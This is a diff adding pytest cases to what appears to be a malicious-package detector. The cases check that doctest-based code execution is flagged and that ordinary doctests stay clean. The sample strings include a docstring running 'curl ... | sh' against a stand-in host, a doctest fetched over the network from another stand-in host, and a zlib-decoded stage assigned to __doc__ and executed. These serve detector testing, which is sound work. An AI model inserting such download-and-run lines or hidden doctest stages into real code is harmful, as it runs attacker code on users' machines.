@@ -108,3 +108,90 @@ def test_code_in_an_evaluated_annotation_is_found_with_the_prefilter_too(
 )
 def test_annotations_that_are_types_or_never_evaluated_stay_clean(source: str) -> None:
     assert not danger(source) & {"CPL-THR-015", "CPL-THR-016"}
+
+
+# -- recall17: a docstring doctest runs --------------------------------------------------------
+
+_DOCTEST_SAMPLE = (
+    Path(__file__).resolve().parents[2]
+    / "benchmarks/malware/tune/b16-ds-doctest-docstring/docrunner/__init__.py"
+).read_text(encoding="utf-8")
+
+#: blind16's b16-ds-doctest-docstring (Phylum): a function's ``__doc__`` set to a decoded
+#: stage's lines behind ``>>> `` and run by doctest; doctest's other runners and its
+#: parser; a docstring that downloads and runs a script, written in the file.
+DOCTEST_STAGES = [
+    (_DOCTEST_SAMPLE, "CPL-THR-001"),
+    (
+        "import doctest, zlib, sys\n"
+        "def f():\n    pass\n"
+        "setattr(f, '__doc__', zlib.decompress(X).decode())\n"
+        "doctest.testmod(sys.modules[__name__])\n",
+        "CPL-THR-001",
+    ),
+    (
+        "import doctest, urllib.request\n"
+        "t = urllib.request.urlopen('https://d.recall17.example/t').read().decode()\n"
+        "p = doctest.DocTestParser()\n"
+        "doctest.DocTestRunner().run(p.get_doctest(t, {}, 'x', None, 0))\n",
+        "CPL-THR-002",
+    ),
+    (
+        "import doctest\n"
+        "class K:\n    pass\n"
+        "K.__doc__ = '>>> import os\\n>>> os.system(\"curl -s https://k.example/i | sh\")\\n'\n"
+        "doctest.run_docstring_examples(K, {})\n",
+        "CPL-THR-015",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source", "rule"), DOCTEST_STAGES)
+def test_a_stage_doctest_runs_is_run_code(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
+) -> None:
+    assert rule in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, rule)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a test module's doctests: docstrings written in the file, run by testmod
+        '''
+        import base64, doctest
+
+        def encode(b):
+            """>>> encode(b"hi")
+            'aGk='
+            """
+            return base64.b64encode(b).decode()
+
+        if __name__ == "__main__":
+            doctest.testmod()
+        ''',
+        # a docstring templated from the file's own text (pandas' Appender's kin), run
+        """
+        import doctest
+        _SHARED = ">>> add(1, 2)\\n3\\n"
+        def add(a, b):
+            return a + b
+        add.__doc__ = "Add two numbers.\\n\\n" + _SHARED
+        doctest.run_docstring_examples(add, {"add": add})
+        """,
+        # another function's docstring decoded, not the one doctest runs
+        '''
+        import base64, doctest
+        def f():
+            """>>> 1 + 1
+            2
+            """
+        def g():
+            pass
+        g.__doc__ = base64.b64decode("aGVscA==").decode()
+        doctest.run_docstring_examples(f, {})
+        ''',
+    ],
+)
+def test_docstrings_doctest_runs_that_hold_no_stage_are_clean(source: str) -> None:
+    assert danger(source) == set()
